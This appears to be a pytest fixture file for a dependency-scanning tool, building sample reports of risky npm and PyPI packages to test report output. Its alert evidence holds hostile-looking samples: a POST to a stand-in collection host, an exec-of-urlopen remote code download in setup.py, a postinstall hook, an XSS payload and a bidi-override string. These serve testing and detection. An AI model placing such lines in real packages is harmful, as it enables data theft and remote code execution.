"""Realistic Reports for the report-format tests: a project scan, a single-package run, big ones."""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from depshield.alerts.catalog import CATALOG
from depshield.model import Alert, PackageRef, PackageResult, Scores
from depshield.reports.base import DeepView, Occurrence, Report

SCHEMAS = Path(__file__).parent.parent / "fixtures" / "schemas"
# Attacker-controlled evidence: markup, a bidi override, backticks, pipes and a newline.
HOSTILE = (
    "eval(\"<script>window.__pwned=1</script><img src=x onerror='window.__pwned=2'>"
    '</details></code>` | ``` \u202egnp.exe\nnext")'
)
DIGEST = "sha256-" + "ab" * 32


def alert(
    type_: str, file: str | None = None, line: int | None = None, evidence: str = "", **over: Any
) -> Alert:
    entry = CATALOG[type_]
    fields: dict[str, Any] = {
        "type": type_,
        "category": entry.category,
        "severity": entry.severity,
        "action": entry.action,
        "title": entry.title,
        "message": entry.suggestion,
        "file": file,
        "line": line,
        "evidence": evidence or None,
    }
    fields.update(over)
    return Alert(**fields)


def result(
    eco: str, name: str, version: str, verdict: str, overall: int, *alerts: Alert, **over: Any
) -> PackageResult:
    scores = Scores(
        supplyChain=overall,
        quality=90,
        maintenance=80,
        vulnerability=100,
        license=100,
        overall=overall,
    )
    fields: dict[str, Any] = {"capabilities": (), "digest": DIGEST, "artifact": None}
    fields.update(over)
    return PackageResult(
        PackageRef(eco, name, version),
        verdict,
        scores,  # type: ignore[arg-type]
        alerts=tuple(alerts),
        **fields,
    )


def _packages() -> list[PackageResult]:
    return [
        result(
            "npm",
            "@evil/stealer",
            "1.0.3",
            "block",
            5,
            alert(
                "dataExfiltration",
                "index.js",
                12,
                "https.request('https://collect.example.invalid/k', {method: 'POST'})",
            ),
            alert("installScripts", "package.json", 7, 'postinstall: "node index.js"'),
            alert("networkAccess", "index.js", 3, "require('https')"),
            alert("envVars", "index.js", 9, "process.env"),
            capabilities=("env", "net"),
            artifact="stealer-1.0.3.tgz",
        ),
        result(
            "npm",
            "left-padx",
            "2.0.0",
            "warn",
            41,
            alert("didYouMean", evidence="left-pad"),
            alert("obfuscatedFile", "lib/x.js", 1, "var _0x1a2b=['\\x68\\x74'];"),
            alert("usesEval", "lib/x.js", 4, HOSTILE),
            capabilities=("eval",),
        ),
        result(
            "pypi",
            "requestz",
            "0.1.0",
            "block",
            3,
            alert(
                "remoteCodeDownload",
                "setup.py",
                22,
                "exec(urlopen('http://x.example.invalid/p').read())",
            ),
            alert("shellAccess", "setup.py", 30, "subprocess.run(cmd, shell=True)"),
            capabilities=("net", "shell"),
            digest="sha256:" + "cd" * 32,
        ),
        result(
            "pypi",
            "requests",
            "2.32.3",
            "pass",
            92,
            alert("networkAccess", "requests/adapters.py", 10, "import urllib3"),
            capabilities=("net",),
        ),
        result(
            "pypi",
            "urllib3",
            "2.2.1",
            "pass",
            88,
            alert("mildCVE", evidence="GHSA-0000-example"),
            capabilities=("net",),
        ),
        result("npm", "express", "4.19.2", "pass", 95),
        result("npm", "body-parser", "1.20.2", "pass", 96),
        result("npm", "qs", "6.11.0", "pass", 97, alert("minifiedFile", "dist/qs.js", 1, "!f()")),
        result(
            "npm",
            "broken-pkg",
            "1.0.0",
            "pass",
            100,
            digest=None,
            skipped="download failed: 404 for 'broken-pkg'",
        ),
    ]


def _purl(eco: str, name: str, version: str) -> str:
    return PackageRef(eco, name, version).purl


EVIL = _purl("npm", "@evil/stealer", "1.0.3")
PADX = _purl("npm", "left-padx", "2.0.0")
REQZ = _purl("pypi", "requestz", "0.1.0")
REQS = _purl("pypi", "requests", "2.32.3")
URL3 = _purl("pypi", "urllib3", "2.2.1")
EXPR = _purl("npm", "express", "4.19.2")
BODY = _purl("npm", "body-parser", "1.20.2")
QS = _purl("npm", "qs", "6.11.0")
BROKEN = _purl("npm", "broken-pkg", "1.0.0")
LOCK, REQ, NESTED = "package-lock.json", "requirements.txt", "services/api/package-lock.json"


def _occurrences() -> dict[str, list[Occurrence]]:
    return {
        EVIL: [Occurrence(LOCK, 40, "@evil/stealer", direct=True)],
        PADX: [
            Occurrence(LOCK, 88, "@evil/stealer > left-padx"),
            Occurrence(LOCK, 131, "express > body-parser > qs > left-padx", dev=True),
        ],
        REQZ: [Occurrence(REQ, 3, "requestz", direct=True)],
        REQS: [Occurrence(REQ, 1, "requests", direct=True)],
        URL3: [Occurrence(REQ, 2, "requests > urllib3")],
        EXPR: [Occurrence(LOCK, 12, "express", direct=True)],
        BODY: [Occurrence(LOCK, 20, "express > body-parser")],
        QS: [
            Occurrence(LOCK, 30, "express > body-parser > qs"),
            Occurrence(NESTED, 0, "qs", direct=True),
        ],
        BROKEN: [Occurrence(NESTED, 9, "broken-pkg", direct=True)],
    }


EDGES = [
    ("", EVIL),
    ("", EXPR),
    ("", REQZ),
    ("", REQS),
    ("", QS),
    ("", BROKEN),
    (EXPR, BODY),
    (BODY, QS),
    (QS, PADX),
    (EVIL, PADX),
    (REQS, URL3),
    (QS, BODY),  # a cycle: the tree must not loop
    ("", "pkg:npm/dev-only@1.0.0"),  # a package left out by --prod: no component, no node
]


def _deep() -> dict[str, DeepView]:
    return {
        EXPR: DeepView({"eval": [PADX]}, 41, "warn"),
        EVIL: DeepView({"env": [EVIL], "eval": [PADX], "net": [EVIL]}, 5, "block"),
        REQS: DeepView({"net": [REQS, URL3]}, 88, "pass"),
    }


@pytest.fixture
def scan_report() -> Report:
    """`depshield scan` of a project with two lockfiles and a requirements file."""
    return Report(
        packages=_packages(),
        errors=["cannot fetch 'broken-pkg@1.0.0': 404"],
        root="/home/dev/shop",
        lockfiles=[LOCK, REQ, NESTED],
        occurrences=_occurrences(),
        edges=EDGES,
        deep=_deep(),
        notes=["requirements.txt: 1 unpinned requirement resolved"],
    )


@pytest.fixture
def package_report() -> Report:
    """`depshield package stealer-1.0.3.tgz`: one package, no project around it."""
    return Report(packages=[_packages()[0]])


@pytest.fixture
def shuffle() -> Callable[[Report, int], Report]:
    """The same report with every sequence in another order (what a parallel scan may do)."""

    def shuffled(report: Report, seed: int) -> Report:
        rng = random.Random(seed)

        def mix(items: Any) -> list[Any]:
            out = list(items)
            rng.shuffle(out)
            return out

        packages = [replace(p, alerts=tuple(mix(p.alerts))) for p in mix(report.packages)]
        occurrences = {k: mix(v) for k, v in mix(report.occurrences.items())}
        return replace(
            report,
            packages=packages,
            occurrences=occurrences,
            edges=mix(report.edges),
            lockfiles=mix(report.lockfiles),
        )

    return shuffled


@pytest.fixture
def big_report() -> Callable[[int], Report]:
    """A scan of `n` packages, most of them risky, each with a few alerts and a path."""

    def build(n: int) -> Report:
        packages, occurrences, edges = [], {}, []
        for i in range(n):
            verdict = ("block", "warn", "warn", "pass")[i % 4]
            alerts = [alert("networkAccess", f"lib/m{i}.js", i + 1, f"fetch('{i}') | `x`")]
            if verdict != "pass":
                alerts.append(alert("obfuscatedFile", "index.js", 1, "_0x" + "ab" * 40))
            if i % 10 == 0:
                alerts.append(alert("installScripts", "package.json", 5, "node install.js"))
            pkg = result("npm", f"pkg-{i:04d}", "1.0.0", verdict, (i * 7) % 100, *alerts)
            packages.append(pkg)
            purl = pkg.ref.purl
            occurrences[purl] = [Occurrence(LOCK, 10 + i, f"root-{i % 9} > pkg-{i:04d}")]
            edges.append(("", purl) if i < 10 else (packages[i // 10].ref.purl, purl))
        packages.append(result("npm", "clean", "1.0.0", "pass", 100))
        return Report(
            packages=packages, root="/p", lockfiles=[LOCK], occurrences=occurrences, edges=edges
        )

    return build


@pytest.fixture
def hostile() -> str:
    return HOSTILE


@pytest.fixture
def schemas() -> Path:
    return SCHEMAS
